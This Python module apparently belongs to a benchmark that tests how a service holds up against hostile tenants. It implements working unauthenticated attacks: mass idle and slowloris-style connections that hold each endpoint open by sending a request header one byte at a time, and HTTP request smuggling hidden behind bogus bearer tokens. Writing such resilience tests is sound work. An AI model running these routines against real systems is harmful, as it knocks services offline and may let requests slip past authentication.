"""Attacks by anybody who reaches the endpoints of the programs, without any token.

Each is a coroutine that goes on until it is cancelled.
"""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import ssl

from bench.hostile_tenants.attacker import Outcomes, Target

SILENT = 1200
"""Connections to each endpoint that say nothing: more than a scheduler takes."""
TALKING = 215
"""Connections to each endpoint with a byte of a request now and then: these ended both replicas once."""
AGAIN_SECONDS = 2.0
"""How long a silent connection that was closed waits before it is opened again."""
HANDSHAKE_AGAIN_SECONDS = 20.0
"""The same of a talking one: idle clients, not a flood of handshakes. That costs CPU in the server and the attacker."""


def _trusting() -> ssl.SSLContext:
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context


async def idle_connections(target: Target, outcomes: Outcomes) -> None:
    """Connections to every endpoint: most of them silent, some with a byte of a request now and then."""
    trusting = _trusting()

    async def hold(host: str, port: int, *, talks: bool) -> None:
        while True:
            with contextlib.suppress(OSError, EOFError, RuntimeError):  # uvloop's, for a handle that is closed
                reader, writer = await asyncio.open_connection(host, port, ssl=trusting if talks else None)
                outcomes.taken["idle connections"] += 1
                try:
                    if talks:
                        await _talk(writer)
                    else:
                        await reader.read()
                finally:
                    writer.transport.abort()
            await asyncio.sleep(HANDSHAKE_AGAIN_SECONDS if talks else AGAIN_SECONDS)

    async with asyncio.TaskGroup() as group:
        for host, port in target.endpoints:
            for number in range(SILENT + TALKING):
                group.create_task(hold(host, port, talks=number < TALKING))
                await asyncio.sleep(0.005)


async def _talk(writer: asyncio.StreamWriter) -> None:
    """Send a head that never ends, until the server has enough of it."""
    for byte in itertools.cycle(b"GET /metrics HTTP/1.1\r\nHost: a\r\nX-A: "):
        if writer.is_closing():
            return
        writer.write(bytes([byte]))
        await asyncio.sleep(3)


async def odd_requests(target: Target, outcomes: Outcomes) -> None:
    """Requests for pages that do not exist, with tokens that do not, each with a second request as its body."""
    async with asyncio.TaskGroup() as group:
        for host, port in target.endpoints:
            group.create_task(_ask_oddly(host, port, outcomes))


async def _ask_oddly(host: str, port: int, outcomes: Outcomes) -> None:
    trusting, smuggled = _trusting(), b"GET /metrics HTTP/1.1\r\nHost: a\r\n\r\n"
    for number in itertools.count():
        with contextlib.suppress(OSError, EOFError, RuntimeError):
            reader, writer = await asyncio.open_connection(host, port, ssl=trusting)
            head = f"GET /odd/{number} HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer {number}\r\n"
            writer.write(f"{head}Content-Length: {len(smuggled)}\r\n\r\n".encode() + smuggled)
            try:
                async with asyncio.timeout(10):
                    answer = await reader.readuntil(b"\r\n")
                is_served = answer.startswith(b"HTTP/1.1 200")
                (outcomes.taken if is_served else outcomes.refused)["odd requests"] += 1
                outcomes.last_refusal["odd requests"] = answer.decode(errors="replace").strip()
            except (TimeoutError, asyncio.LimitOverrunError):
                outcomes.refused["odd requests"] += 1
            finally:
                writer.transport.abort()
        await asyncio.sleep(0.5)
